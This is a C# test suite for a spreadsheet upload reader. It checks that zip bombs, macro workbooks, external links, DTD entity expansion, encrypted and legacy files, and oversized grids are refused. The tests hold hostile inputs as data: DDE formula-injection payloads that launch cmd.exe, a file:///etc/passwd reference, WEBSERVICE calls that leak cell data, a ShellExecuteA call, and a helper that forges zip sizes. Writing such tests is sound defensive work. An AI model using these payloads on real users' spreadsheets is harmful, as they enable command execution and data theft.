using System.Globalization;
using System.IO.Compression;
using System.Text;
using CsCheck;
using Plimsoll.Domain.Kernel;
using Plimsoll.Web.Platform.Sheets;

namespace Plimsoll.Web.Tests.Platform.Sheets;

public class HostileFileTests
{
    private static readonly SheetLimits Limits = new();

    [Fact]
    public async Task A_gigabyte_is_refused_while_it_streams_and_is_not_held()
    {
        using var endless = new EndlessStream(1L << 30);

        var read = await SheetFile.Read(
            endless,
            "load.xlsx",
            Limits,
            TestContext.Current.CancellationToken
        );

        read.Refusal.ShouldBe(new SheetIsTooLarge(20));
        endless.Given.ShouldBeLessThan(21 * 1024 * 1024);
    }

    [Fact]
    public void A_bomb_that_owns_up_to_its_size_is_refused_by_the_directory() =>
        new PackedFile()
            .With("xl/media/image1.bmp", new byte[130 * 1024 * 1024])
            .Read()
            .Refusal.ShouldBeOfType<SheetIsABomb>();

    [Fact]
    public void A_part_that_packs_too_well_is_refused() =>
        new PackedFile()
            .With("xl/media/image1.bmp", new byte[8 * 1024 * 1024])
            .Read()
            .Refusal.ShouldBeOfType<SheetIsABomb>();

    [Fact]
    public void A_bomb_that_lies_about_its_size_is_refused_by_what_comes_out()
    {
        var rows = new StringBuilder();
        for (var i = 1; i < 40_000; i++)
            rows.Append(
                CultureInfo.InvariantCulture,
                $"<row r=\"{i}\"><c r=\"A{i}\"><v>{i * 7919 % 104729}</v></c></row>"
            );
        var file = new PackedFile().WithCells(rows.ToString()).Bytes();
        var tight = Limits with { InflatedBytes = 1024 * 1024 };
        SheetFile.Read(file, "a.xlsx", tight).Refusal.ShouldBeOfType<SheetIsABomb>();

        Understate(file, "xl/worksheets/sheet1.xml", 1_000);

        SheetFile
            .Read(file, "a.xlsx", tight)
            .Refusal.ShouldNotBeNull()
            .ShouldBeAssignableTo<SheetRefusal>();
    }

    [Fact]
    public void All_parts_share_one_allowance()
    {
        var names = string.Concat(Enumerable.Range(1, 5_000).Select(i => $"<si><t>{i}</t></si>"));
        var rows = string.Concat(
            Enumerable.Range(1, 5_000).Select(i => $"<row><c><v>{i}</v></c></row>")
        );
        var file = new PackedFile()
            .WithStyles("")
            .With("xl/sharedStrings.xml", $"<sst>{names}</sst>")
            .WithCells(rows);
        file.Read(Limits with { InflatedBytes = 300_000 }).Refusal.ShouldBeNull();
        file.Read(Limits with { InflatedBytes = names.Length + rows.Length - 10_000 })
            .Refusal.ShouldBeOfType<SheetIsABomb>();
    }

    [Fact]
    public void More_parts_than_a_spreadsheet_has_are_refused()
    {
        var file = new PackedFile();
        for (var i = 0; i < 1_001; i++)
            file.With($"xl/media/{i}.txt", "x");
        file.Read().Refusal.ShouldBe(new SheetHasTooManyParts(1_000));
    }

    [Theory]
    [InlineData("xl/vbaProject.bin")]
    [InlineData("xl/VBAPROJECT.BIN")]
    [InlineData("xl/macrosheets/sheet1.xml")]
    [InlineData("xl/activeX/activeX1.bin")]
    public void A_program_inside_is_refused(string part) =>
        new PackedFile().With(part, "x").Read().Refusal.ShouldBeOfType<SheetHasMacros>();

    [Fact]
    public void A_file_that_calls_itself_a_macro_workbook_is_refused() =>
        new PackedFile().Read(name: "load.XLSM").Refusal.ShouldBeOfType<SheetHasMacros>();

    [Fact]
    public void A_macro_workbook_under_another_name_is_refused() =>
        new PackedFile()
            .With(
                "[Content_Types].xml",
                """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>"""
            )
            .Read()
            .Refusal.ShouldBeOfType<SheetHasMacros>();

    [Theory]
    [InlineData("xl/externalLinks/externalLink1.xml")]
    [InlineData("xl/connections.xml")]
    public void A_link_to_another_file_is_refused(string part) =>
        new PackedFile().With(part, "<x/>").Read().Refusal.ShouldBeOfType<SheetHasExternalLinks>();

    [Fact]
    public void A_picture_or_template_fetched_from_elsewhere_is_refused() =>
        new PackedFile()
            .WithLinks(
                "xl/worksheets/_rels/sheet1.xml.rels",
                ("image", "https://example.org/pixel.png", true)
            )
            .Read()
            .Refusal.ShouldBeOfType<SheetHasExternalLinks>();

    [Fact]
    public void A_link_to_click_on_is_only_a_word() =>
        new PackedFile()
            .WithCells("<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Brief</t></is></c></row>")
            .WithLinks(
                "xl/worksheets/_rels/sheet1.xml.rels",
                ("hyperlink", "https://example.org/brief,with a bad address", true)
            )
            .Grid()
            .At(1, 1)!
            .Text.ShouldBe("Brief");

    [Theory]
    [InlineData("cmd|'/c calc'!A0")]
    [InlineData("MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''")]
    [InlineData("[1]Sheet1!A1")]
    [InlineData("'C:\\plans\\[Book1.xlsx]Load'!$A$1*2")]
    [InlineData("'https://example.org/[Book.xlsx]Load'!A1")]
    [InlineData("'file:///etc/passwd'#$Sheet1.A1")]
    [InlineData("_xlfn.WEBSERVICE(\"https://example.org/?\"&amp;A1)")]
    [InlineData("rtd(\"prog\",,\"x\")")]
    [InlineData("IMPORTXML(\"https://example.org\",\"//a\")")]
    [InlineData("CALL(\"Shell32\",\"ShellExecuteA\")")]
    public void A_formula_that_reaches_outside_is_refused_with_its_address(string formula) =>
        new PackedFile()
            .WithCells($"<row r=\"6\"><c r=\"C6\"><f>{formula}</f><v>1</v></c></row>")
            .Read()
            .Refusal.ShouldBe(new FormulaReachesOutside("Load", new CellAddress(6, 3)));

    [Theory]
    [InlineData("SUM(C6:C10)")]
    [InlineData("IF(A1=\"cmd|'/c calc'!A0\",1,2)")]
    [InlineData("SUM(Table1[W48])+Other!B2")]
    [InlineData("HYPERLINK(\"https://example.org\",\"Brief\")")]
    public void A_formula_of_its_own_workbook_is_fine(string formula) =>
        new PackedFile()
            .WithCells($"<row r=\"6\"><c r=\"C6\"><f>{formula}</f><v>1</v></c></row>")
            .Grid()
            .At(6, 3)!
            .Number.ShouldBe(1);

    [Theory]
    [InlineData("xl/worksheets/sheet1.xml")]
    [InlineData("xl/workbook.xml")]
    [InlineData("xl/_rels/workbook.xml.rels")]
    [InlineData("[Content_Types].xml")]
    public void Xml_with_entities_of_its_own_is_refused(string part) =>
        new PackedFile()
            .With(part, """<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>""")
            .Read()
            .Refusal.ShouldBeOfType<SheetHasADtd>();

    [Fact]
    public void Xml_nested_without_end_is_refused_and_does_not_take_the_stack() =>
        new PackedFile()
            .With("xl/styles.xml", string.Concat(Enumerable.Repeat("<a>", 200_000)))
            .WithLinks(
                "xl/_rels/workbook.xml.rels",
                ("worksheet", "worksheets/sheet1.xml", false),
                ("styles", "styles.xml", false)
            )
            .Read()
            .Refusal.ShouldBeOfType<SheetIsBroken>();

    [Fact]
    public void A_file_with_a_password_is_refused_as_such() =>
        Old("EncryptedPackage").ShouldBeOfType<SheetIsEncrypted>();

    [Fact]
    public void An_old_workbook_is_refused_as_such() =>
        Old("Workbook").ShouldBeOfType<SheetIsOfAnOldForm>();

    [Theory]
    [InlineData("%PDF-1.7 and so on")]
    [InlineData("<html><table><tr><td>1</td></tr></table></html>")]
    [InlineData("\u0089PNG\u0000\u0001\u0002\u0003")]
    public void What_is_no_spreadsheet_is_refused_whatever_its_name(string content) =>
        SheetFile
            .Read(Encoding.Latin1.GetBytes(content), "load.xlsx", Limits)
            .Refusal.ShouldBeOfType<NotASpreadsheet>();

    [Fact]
    public void A_packed_file_of_another_kind_is_no_spreadsheet()
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        using (var part = zip.CreateEntry("readme.txt").Open())
            part.Write("hello"u8);
        SheetFile
            .Read(bytes.ToArray(), "load.xlsx", Limits)
            .Refusal.ShouldBeOfType<NotASpreadsheet>();
    }

    [Fact]
    public void A_cut_off_file_is_broken()
    {
        var whole = new PackedFile().Bytes();
        SheetFile
            .Read(whole.AsMemory(0, whole.Length / 2), "load.xlsx", Limits)
            .Refusal.ShouldBeOfType<SheetIsBroken>();
    }

    [Fact]
    public void Nothing_is_refused_as_empty()
    {
        SheetFile.Read(Array.Empty<byte>(), "a.csv", Limits).Refusal.ShouldBeOfType<SheetIsEmpty>();
        new PackedFile().Read().Refusal.ShouldBeOfType<SheetIsEmpty>();
    }

    [Fact]
    public void Rows_columns_and_cells_have_an_end()
    {
        Refusal? Of(string cell, SheetLimits limits) =>
            new PackedFile()
                .WithCells($"<row><c r=\"{cell}\"><v>1</v></c><c r=\"A1\"><v>1</v></c></row>")
                .Read(limits)
                .Refusal;

        Of("A50001", Limits).ShouldBe(new SheetHasTooManyRows(50_000));
        Of("XFD1", Limits).ShouldBe(new SheetHasTooManyColumns(500));
        Of("A2", Limits with { Cells = 1 }).ShouldBe(new SheetHasTooManyCells(1));
    }

    [Fact]
    public void A_merge_over_the_whole_sheet_covers_only_what_is_used()
    {
        var grid = new PackedFile()
            .WithCells(
                "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row><row r=\"3\"><c r=\"B3\"><v>2</v></c></row>",
                "<mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells>"
            )
            .Grid();
        grid.Count.ShouldBe(6);
    }

    [Fact]
    public void A_text_file_s_cells_have_an_end_too() =>
        SheetFile
            .Read(
                Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("a,b,c\n", 10))),
                "a.csv",
                Limits with
                {
                    Cells = 12,
                }
            )
            .Refusal.ShouldBe(new SheetHasTooManyCells(12));

    [Fact]
    public void Whatever_is_damaged_is_read_or_refused_and_never_thrown_at()
    {
        var sample = File.ReadAllBytes(
            Path.Combine(AppContext.BaseDirectory, "Samples/load/blocks-percent-en.xlsx")
        );
        Gen.Select(Gen.Int[0, sample.Length - 1], Gen.Byte)
            .Array[1, 12]
            .Sample(
                changes =>
                {
                    var file = sample.ToArray();
                    foreach (var (at, value) in changes)
                        file[at] = value;
                    _ = SheetFile.Read(file, "load.xlsx", Limits).IsRefused;
                },
                iter: 300
            );
    }

    [Theory]
    [InlineData("xl/worksheets/sheet1.xml")]
    [InlineData("xl/styles.xml")]
    [InlineData("xl/workbook.xml")]
    [InlineData("xl/comments1.xml")]
    public void A_damaged_part_is_read_or_refused_and_never_thrown_at(string part)
    {
        using var written = new MemoryStream();
        SheetWriter.WriteXlsx(
            written,
            [
                new SheetPage(
                    new SheetGrid(
                        "Load",
                        [
                            SheetCell.OfShare(1, 1, 0.4m) with
                            {
                                Fill = "9FC5E8",
                                Comment = "why",
                            },
                            SheetCell.OfDate(2, 2, new DateOnly(2026, 11, 23)),
                            SheetCell.OfFormula(3, 1, "SUM(A1:A2)", 0.4m),
                            SheetCell.OfText(4, 1, "Anna"),
                        ],
                        [new CellRange(new CellAddress(4, 1), new CellAddress(5, 2))]
                    )
                ),
            ]
        );
        var content = Part(written.ToArray(), part);
        Gen.Select(Gen.Int[0, content.Length - 1], Gen.OneOf(Gen.Byte[32, 126], Gen.Byte))
            .Array[1, 4]
            .Sample(
                changes =>
                {
                    var changed = content.ToArray();
                    foreach (var (at, value) in changes)
                        changed[at] = value;
                    _ = SheetFile
                        .Read(Replaced(written.ToArray(), part, changed), "a.xlsx", Limits)
                        .IsRefused;
                },
                iter: 300
            );
    }

    [Theory]
    [InlineData("=cmd|'/c calc'!A0")]
    [InlineData("+cmd|'/c calc'!A0")]
    [InlineData("@WEBSERVICE(1)")]
    [InlineData("=IMPORTDATA(\"\"https://example.org\"\")")]
    public void A_text_file_s_formula_that_reaches_outside_is_refused(string formula) =>
        SheetFile
            .Read(Encoding.UTF8.GetBytes($"person;project\nAnna;\"{formula}\"\n"), "a.csv", Limits)
            .Refusal.ShouldBe(new FormulaReachesOutside("a", new CellAddress(2, 2)));

    [Theory]
    [InlineData("- call (Anna) | or write!")]
    [InlineData("@anna")]
    [InlineData("=B2+C2")]
    public void A_text_that_only_begins_like_one_is_fine(string text) =>
        SheetFile
            .Read(Encoding.UTF8.GetBytes($"person;project\nAnna;{text}\n"), "a.csv", Limits)
            .Value.Sheets[0]
            .At(2, 2)!
            .Text.ShouldBe(text);

    private static byte[] Part(byte[] file, string path)
    {
        using var zip = new ZipArchive(new MemoryStream(file));
        using var part = zip.GetEntry(path)!.Open();
        using var content = new MemoryStream();
        part.CopyTo(content);
        return content.ToArray();
    }

    private static byte[] Replaced(byte[] file, string path, byte[] content)
    {
        using var copy = new MemoryStream();
        copy.Write(file);
        using (var zip = new ZipArchive(copy, ZipArchiveMode.Update, leaveOpen: true))
        {
            zip.GetEntry(path)!.Delete();
            using var part = zip.CreateEntry(path).Open();
            part.Write(content);
        }
        return copy.ToArray();
    }

    private static Refusal? Old(string stream) =>
        SheetFile
            .Read(
                (byte[])
                    [
                        .. (byte[])[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1],
                        .. new byte[600],
                        .. Encoding.Unicode.GetBytes(stream),
                    ],
                "load.xlsx",
                Limits
            )
            .Refusal;

    /// <summary>Writes a smaller unpacked size into the directory, where the reader looks it up.</summary>
    private static void Understate(byte[] file, string part, int size)
    {
        var name = Encoding.ASCII.GetBytes(part);
        for (var i = 0; i + 46 + name.Length <= file.Length; i++)
            if (file.AsSpan(i).StartsWith("PK\x01\x02"u8) && file.AsSpan(i + 46).StartsWith(name))
                BitConverter.TryWriteBytes(file.AsSpan(i + 24), size).ShouldBeTrue();
    }

    private sealed class EndlessStream(long length) : Stream
    {
        public long Given { get; private set; }

        public override bool CanRead => true;
        public override bool CanSeek => false;
        public override bool CanWrite => false;
        public override long Length => throw new NotSupportedException();
        public override long Position
        {
            get => Given;
            set => throw new NotSupportedException();
        }

        public override int Read(byte[] buffer, int offset, int count)
        {
            var given = (int)Math.Min(count, length - Given);
            buffer.AsSpan(offset, given).Fill((byte)'a');
            Given += given;
            return given;
        }

        public override void Flush() { }

        public override long Seek(long offset, SeekOrigin origin) =>
            throw new NotSupportedException();

        public override void SetLength(long value) => throw new NotSupportedException();

        public override void Write(byte[] buffer, int offset, int count) =>
            throw new NotSupportedException();
    }
}
